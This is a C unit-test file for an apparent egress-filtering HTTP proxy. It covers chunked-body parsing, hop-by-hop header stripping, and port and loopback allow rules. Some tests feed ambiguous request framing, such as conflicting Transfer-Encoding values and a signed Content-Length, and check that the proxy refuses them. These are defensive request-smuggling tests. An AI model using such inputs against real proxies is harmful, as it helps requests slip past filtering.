	assert_string_equal(f.host_resolver_rules, "MAP * ~NOTFOUND , EXCLUDE 127.0.0.1");
	for (i = 0; f.extra[i]; i++) {
		seen |= !strcmp(f.extra[i], "--proxy-bypass-list=<-loopback>");
		seen |= !strcmp(f.extra[i], "--webrtc-ip-handling-policy=disable_non_proxied_udp")
		        << 1;
		seen |= !strcmp(f.extra[i], "--disable-quic") << 2;
	}
	assert_int_equal(seen, 7);
	policy_proxy_stop(px);

	o.max_header_bytes = 10;
	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), -POLICY_EINVAL);
	assert_non_null(strstr(err, "max_header_bytes"));
	o.max_header_bytes = 0;
	o.listen_addr = "localhost";
	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), -POLICY_EINVAL);
	assert_non_null(strstr(err, "not an IP address"));
	policy_egress_free(p);
}

/* Feeds text to a chunked body one byte at a time, then all at once;
 * both must agree on where the body ends. */
static long chunked_end(const char *text)
{
	struct proxy_body a;
	struct proxy_body b;
	size_t len = strlen(text);
	long whole;
	long i;

	memset(&a, 0, sizeof(a));
	a.kind = PROXY_BODY_CHUNKED;
	b = a;
	whole = proxy_body_feed(&b, text, len);
	for (i = 0; (size_t)i < len && !a.done; i++) {
		long n = proxy_body_feed(&a, text + i, 1);

		if (n < 0)
			break;
	}
	if (whole < 0) {
		assert_false(a.done);
		return -1;
	}
	assert_int_equal(a.done, b.done);
	assert_int_equal(i, whole);
	return b.done ? whole : -2;
}

static void test_http_framing(void **state)
{
	struct proxy_head h;
	struct proxy_body body;
	char why[200];
	static const char head[] = "POST http://shop.test/ HTTP/1.1\r\nHost: shop.test\r\n"
	                           "Transfer-Encoding: chunked\r\nConnection: keep-alive, X-Hop\r\n"
	                           "X-Hop: secret\r\nProxy-Authorization: Basic x\r\n\r\n";
	struct gb_buf out;

	(void)state;
	assert_int_equal(chunked_end("5\r\nhello\r\n0\r\n\r\nGET"), 15);
	assert_int_equal(
	    chunked_end("5;ext=1\r\nhello\r\nA\r\n0123456789\r\n0\r\nT: x\r\n\r\nnext"), 42);
	assert_int_equal(chunked_end("5\r\nhello\r\n"), -2); /* not over yet */
	assert_int_equal(chunked_end("zz\r\n"), -1);
	assert_int_equal(chunked_end("5\r\nhelloXX"), -1);
	assert_int_equal(chunked_end("ffffffffffffffff1\r\n"), -1);

	assert_int_equal(proxy_http_head_end(head, sizeof(head) - 1), sizeof(head) - 1);
	assert_int_equal(proxy_http_head_end(head, sizeof(head) - 3), 0);
	assert_int_equal(proxy_http_parse_request(head, sizeof(head) - 1, &h, why, sizeof(why)), 0);
	assert_string_equal(h.method, "POST");
	assert_int_equal(proxy_http_request_body(&h, &body, why, sizeof(why)), 0);
	assert_int_equal(body.kind, PROXY_BODY_CHUNKED);
	assert_true(proxy_http_client_keepalive(&h));
	gb_buf_init(&out, 4096);
	assert_int_equal(proxy_http_rewrite_request(&h, "/p?q", 4, "shop.test", 0, &out), 0);
	assert_non_null(strstr(out.data, "POST /p?q HTTP/1.1\r\nHost: shop.test\r\n"));
	assert_non_null(strstr(out.data, "Transfer-Encoding: chunked\r\n"));
	assert_null(strstr(out.data, "X-Hop")); /* named by Connection: hop-by-hop */
	assert_null(strstr(out.data, "Proxy-"));
	assert_null(strstr(out.data, "keep-alive"));
	assert_non_null(strstr(out.data, "Connection: close\r\n\r\n"));
	gb_buf_free(&out);

	/* framing that two parsers could read two ways is refused */
	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nTransfer-Encoding: "
	                                          "gzip, chunked\r\n\r\n",
	                                          60, &h, why, sizeof(why)),
	                 0);
	assert_int_equal(proxy_http_request_body(&h, &body, why, sizeof(why)), -501);
	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nContent-Length: +5\r\n"
	                                          "\r\n",
	                                          46, &h, why, sizeof(why)),
	                 0);
	assert_int_equal(proxy_http_request_body(&h, &body, why, sizeof(why)), -400);
	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nBad Name: x\r\n\r\n",
	                                          39, &h, why, sizeof(why)),
	                 -400);
	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\nHost: a\n\n", 32, &h,
	                                          why, sizeof(why)),
	                 -400);
	assert_int_equal(proxy_http_parse_response("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n",
	                                           38, &h, why, sizeof(why)),
	                 0);
	proxy_http_response_body(&h, "HEAD", &body);
	assert_int_equal(body.kind, PROXY_BODY_NONE);
	proxy_http_response_body(&h, "GET", &body);
	assert_int_equal(body.kind, PROXY_BODY_LENGTH);
	assert_int_equal(
	    proxy_http_parse_response("HTTP/1.1 2x0 OK\r\n\r\n", 19, &h, why, sizeof(why)), -502);
}

/* A portless pattern on a loopback-mapped name allows ports 80 and 443
 * only: another port of the same address is refused by the name (GET and
 * CONNECT), and an allow_private entry names one port only. The page's 403
 * names the rule and the port; only the refusal record shows the line that
 * would allow it. */
static void test_ports_of_portless_patterns(void **state)
{
	struct world w;
	char req[512];
	char resp[4096];
	char want[64];

	(void)state;
	world_start(&w,
	            "{\"allow\": [\"shop.test\"], \"allow_private\": [\"127.0.0.1:*\"],"
	            " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
	            NULL);
	policy_egress_set_source(w.policy, "/etc/glassbox/shop.json");
	snprintf(req, sizeof(req), "GET http://shop.test.:%d/ HTTP/1.1\r\nHost: shop.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 403"));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: egress-not-allowed"));
	snprintf(want, sizeof(want), "shop.test port %d", w.http.port);
	assert_non_null(strstr(resp, want));
	assert_null(strstr(resp, "To allow it"));
	assert_null(strstr(resp, "/etc/glassbox"));
	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\n\r\n", w.echo.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "egress-not-allowed"));
	assert_int_equal(atomic_load(&w.http.hits), 0);
	assert_int_equal(atomic_load(&w.echo.hits), 0);
	pthread_mutex_lock(&w.ev.lock);
	assert_int_equal(w.ev.n, 2);
	snprintf(want, sizeof(want), "[\"shop.test:%d\"]", w.http.port);
	assert_non_null(strstr(w.ev.message[0], want));
	assert_non_null(strstr(w.ev.message[0], "add to /etc/glassbox/shop.json: "));
	pthread_mutex_unlock(&w.ev.lock);
	world_stop(&w);

	/* every port of the name, but allow_private names another port */
	world_start(&w,
	            "{\"allow\": [\"shop.test:*\"], \"allow_private\": [\"127.0.0.1:1\"],"
	            " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
	            NULL);
	snprintf(req, sizeof(req), "GET http://shop.test:%d/ HTTP/1.1\r\nHost: shop.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: addr-loopback"));
	snprintf(want, sizeof(want), "resolved to 127.0.0.1) port %d", w.http.port);
	assert_non_null(strstr(resp, want));
	assert_int_equal(atomic_load(&w.http.hits), 0);
	pthread_mutex_lock(&w.ev.lock);
	snprintf(want, sizeof(want), "{\"allow_private\": [\"127.0.0.1:%d\"]}", w.http.port);
	assert_non_null(strstr(w.ev.message[0], want));
	pthread_mutex_unlock(&w.ev.lock);
	world_stop(&w);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_allowed_get_passes_and_is_counted),
		cmocka_unit_test(test_denied_host_gets_403),
		cmocka_unit_test(test_socket_readied_before_the_proxy),
		cmocka_unit_test(test_connect_tunnels_both_ways),
		cmocka_unit_test(test_upgrade_tunnels_after_101),
		cmocka_unit_test(test_loopback_override_needs_naming),
		cmocka_unit_test(test_ports_of_portless_patterns),
		cmocka_unit_test(test_devtools_port_refused_whatever_the_policy),
		cmocka_unit_test(test_refused_ports_keep_the_latest),
		cmocka_unit_test(test_url_is_loopback_port),
		cmocka_unit_test(test_bad_and_oversized_requests),
		cmocka_unit_test(test_connection_limit),
		cmocka_unit_test(test_stop_with_connections_open),
		cmocka_unit_test(test_chromium_flags_and_options),
		cmocka_unit_test(test_http_framing),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
